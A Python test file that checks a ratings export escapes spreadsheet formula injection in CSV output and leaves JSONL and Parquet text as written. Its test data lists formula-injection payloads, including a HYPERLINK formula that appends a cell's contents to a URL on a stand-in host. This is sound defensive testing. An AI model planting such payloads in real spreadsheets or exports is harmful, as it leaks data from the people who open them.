"""CSV injection: comments (and any text cell) that a spreadsheet would run as a formula are
written with a leading apostrophe in CSV exports, long and wide, on SQLite's Python path and on
PostgreSQL's COPY path; JSONL and Parquet keep the text exactly as the expert wrote it."""

import json
import uuid

import pandas as pd
import pyarrow.parquet as pq
import pytest

from annotations.services import rating_submit
from audit.campaigns.models import Assignment
from audit.reports.exports.ratings import ratings_export
from audit.reports.exports.sinks import neutralise_formula

pytestmark = pytest.mark.django_db

HOSTILE = ['=HYPERLINK("http://x.example/?"&A1,"click")', "+1+2", "-3+4", "@SUM(A1)",
           "\tcmd", "\rcmd"]  # fmt: skip
SCORES = {"accuracy": 4, "relevance": 5, "completeness": 3, "usefulness": 4}


@pytest.fixture
def hostile(launched_campaign):
    campaign, _, _ = launched_campaign
    assignments = list(Assignment.objects.filter(campaign=campaign).order_by("pk")[: len(HOSTILE)])
    for a, text in zip(assignments, HOSTILE, strict=True):
        rating_submit(assignment=a, expert=a.expert, client_id=uuid.uuid4(), scores=SCORES,
                      comment=text)  # fmt: skip
    return campaign


@pytest.mark.parametrize("layout", ["long", "wide"])
def test_csv_cells_cannot_start_a_formula(hostile, tmp_path, layout):
    path = tmp_path / f"r-{layout}.csv"
    ratings_export(campaign=hostile, path=path, fmt="csv", layout=layout)
    frame = pd.read_csv(path, keep_default_na=False, dtype=str)
    comments = set(frame["comment"])
    for text in HOSTILE:
        assert text not in comments
        assert "'" + text in comments
    assert not any(m.startswith("'") for m in frame["method"])  # ordinary cells left alone


@pytest.mark.parametrize("fmt", ["jsonl", "parquet"])
def test_typed_formats_keep_the_text(hostile, tmp_path, fmt):
    path = tmp_path / f"r.{fmt}"
    ratings_export(campaign=hostile, path=path, fmt=fmt, layout="long")
    if fmt == "parquet":
        rows = pq.read_table(path).to_pylist()
    else:
        rows = [json.loads(line) for line in path.read_text().splitlines()]
    assert set(HOSTILE) <= {r["comment"] for r in rows}


def test_the_rule():
    assert neutralise_formula("=1+1") == "'=1+1"
    assert neutralise_formula("fine = ok") == "fine = ok"
    assert neutralise_formula(-3) == -3  # numbers are not text
